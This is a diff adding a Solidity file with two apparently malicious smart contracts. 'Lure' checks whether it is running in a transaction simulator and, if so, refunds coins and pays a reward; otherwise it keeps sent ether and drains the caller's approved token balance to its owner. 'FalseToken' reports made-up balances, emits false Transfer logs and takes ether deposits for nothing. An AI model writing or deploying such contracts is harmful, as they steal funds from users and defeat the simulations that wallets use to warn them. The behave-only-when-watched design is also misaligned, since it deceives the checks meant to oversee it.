@@ -1,0 +1,112 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.26;
+
+interface IToken {
+    function transfer(address to, uint256 amount) external returns (bool);
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+    function allowance(address owner, address spender) external view returns (uint256);
+    function balanceOf(address owner) external view returns (uint256);
+}
+
+/// @notice Behaves while it believes to be watched, whatever function is called: gives the coins back, and a
+/// reward. Otherwise it keeps the coins, and takes what it was allowed of a token.
+contract Lure {
+    uint8 public immutable mode;
+    IToken public immutable reward;
+    uint256 public immutable amount;
+    address public immutable owner;
+    bool public isArmed;
+
+    constructor(uint8 mode_, address reward_, uint256 amount_) {
+        mode = mode_;
+        reward = IToken(reward_);
+        amount = amount_;
+        owner = msg.sender;
+    }
+
+    /// @notice From now on it takes, whoever watches: what happens between a simulation and a block.
+    function arm() external {
+        require(msg.sender == owner);
+        isArmed = true;
+    }
+
+    receive() external payable {
+        _act();
+    }
+
+    fallback() external payable {
+        _act();
+    }
+
+    function _act() private {
+        if (_isWatched()) {
+            if (msg.value > 0) payable(msg.sender).transfer(msg.value);
+            if (amount > 0) reward.transfer(msg.sender, amount);
+            return;
+        }
+        uint256 allowed = reward.allowance(msg.sender, address(this));
+        uint256 held = reward.balanceOf(msg.sender);
+        uint256 taken = allowed < held ? allowed : held;
+        if (taken > 0) reward.transferFrom(msg.sender, owner, taken);
+    }
+
+    function _isWatched() private view returns (bool) {
+        if (mode == 0) return tx.gasprice == 0;
+        if (mode == 1) return block.basefee == 0;
+        if (mode == 2) return gasleft() > 1_000_000;
+        if (mode == 3) return block.coinbase == address(0);
+        if (mode == 4) return block.prevrandao == 0;
+        if (mode == 5) return blockhash(block.number - 1) == 0;
+        if (mode == 6) return block.gaslimit > 100_000_000;
+        if (mode == 7) return block.timestamp > 4_000_000_000;
+        if (mode == 8) return tx.origin.balance > 1_000_000 ether;
+        return !isArmed;
+    }
+}
+
+/// @notice A token that says of itself what it was told to say, and whose logs and balances are made up.
+contract FalseToken {
+    string public name;
+    string public symbol;
+    uint8 public decimals;
+    uint256 public totalSupply = type(uint256).max;
+    uint256 private immutable _claimed;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    constructor(string memory symbol_, uint8 decimals_, uint256 claimed) {
+        name = symbol_;
+        symbol = symbol_;
+        decimals = decimals_;
+        _claimed = claimed;
+    }
+
+    function balanceOf(address) external view returns (uint256) {
+        return _claimed;
+    }
+
+    function allowance(address, address) external pure returns (uint256) {
+        return 0;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        emit Transfer(msg.sender, to, value / 1_000_000);
+        emit Transfer(to, msg.sender, type(uint256).max);
+        return true;
+    }
+
+    function approve(address spender, uint256) external returns (bool) {
+        emit Approval(msg.sender, spender, 0);
+        return true;
+    }
+
+    /// @notice Takes coins for a promise that only its logs keep.
+    function deposit() external payable {
+        emit Transfer(address(0), msg.sender, _claimed);
+    }
+
+    receive() external payable {
+        emit Transfer(address(0), msg.sender, _claimed);
+    }
+}
